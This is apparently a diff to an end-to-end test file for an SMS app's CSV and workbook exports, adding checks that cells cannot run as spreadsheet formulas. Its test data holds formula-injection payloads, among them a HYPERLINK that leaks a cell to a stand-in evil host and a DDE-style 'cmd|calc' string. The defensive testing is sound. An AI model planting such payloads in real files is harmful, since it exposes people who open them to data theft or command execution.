@@ -4,13 +4,14 @@ import { formatMsisdn } from '@/lib/sms/msisdn';
 import { createMessages, nextMsisdn, type TestAccount } from './accounts';
 import { postReply } from './carrier';
 import { expect, test, visit } from './fixtures';
-import { byteOrderMark, downloadList, formatToday, readRows, shortenMoment } from './lists';
+import { byteOrderMark, downloadList, downloadWorkbook, formatToday, readRows, shortenMoment } from './lists';
 
 /** What makes a file fall apart, and what a spreadsheet would run. */
 const awkwardTexts = [
   '=HYPERLINK("http://evil.example/?"&A1,"Prize")',
   '+27 82 123 4567 is my new number',
   '-1 for the long queue',
+  'Stop;=1+1, then | @SUM(A1)',
   '@SUM(1+1)*cmd|calc',
   'semi;colon, comma\ttab | pipe ^ caret "quoted"',
   'two\nlines\r\nand a third',
@@ -28,7 +29,7 @@ function tidy(text: string | undefined): string {
 
 /** Takes back what was put before a text so that a spreadsheet does not run it. */
 function readHarmless(text: string | undefined): string {
-  return (text ?? '').replace(/^'(?=[=+\-@\t\r])/, '');
+  return (text ?? '').replace(/^'(?=[=+\-@\t\r])/, '').replace(/([,;|\t\r\n] *)'(?=[=+\-@])/g, '$1');
 }
 
 /** An account that has sent each of the texts, and got each as a reply. */
@@ -104,7 +105,32 @@ test('the file of incoming replies agrees with its table, and no cell of it is a
 
   // Newest first; every text as it was written, but for the apostrophe.
   expect(rows.map((row) => readHarmless(row.Reply)).reverse()).toEqual(awkwardTexts);
-  for (const row of rows) expect(row.Reply).not.toMatch(/^[=+\-@\t\r]/);
+  for (const row of rows) expect(row.Reply).not.toMatch(/(^|[,;|\t\r\n] *)[=+\-@]/);
+});
+
+test('a workbook has every reply as it was written, numbers as text and times as dates', async ({
+  account,
+  database,
+  request,
+  carrierSecret,
+  openAs,
+}) => {
+  await prepareLists(database, request, account, carrierSecret);
+  const page = await openAs(account);
+  await visit(page, '/messages?tab=incoming');
+  const { fileName, rows } = await downloadWorkbook(page);
+  expect(fileName).toBe(`${account.number}-incoming-${formatToday()}.xlsx`);
+  expect(rows[0]).toEqual(['Number', 'Sender number', 'Reply', 'Verdict', 'Rule', 'Received']);
+  const texts = rows.slice(1).map(([, , reply]) => tidy((reply as string | null) ?? ''));
+  expect(texts.reverse()).toEqual(awkwardTexts.map(tidy));
+  for (const [number, sender, , , , received] of rows.slice(1)) {
+    expect(number).toMatch(/^27\d{9}$/);
+    expect(sender).toBe(account.senderNumber);
+    expect(received).toBeInstanceOf(Date);
+  }
+  // The choice is remembered, and CSV is one press away.
+  const again = await downloadList(page, 'Comma');
+  expect(again.rows).toHaveLength(awkwardTexts.length);
 });
 
 test('a search narrows the list and its file; Clear search leads back', async ({
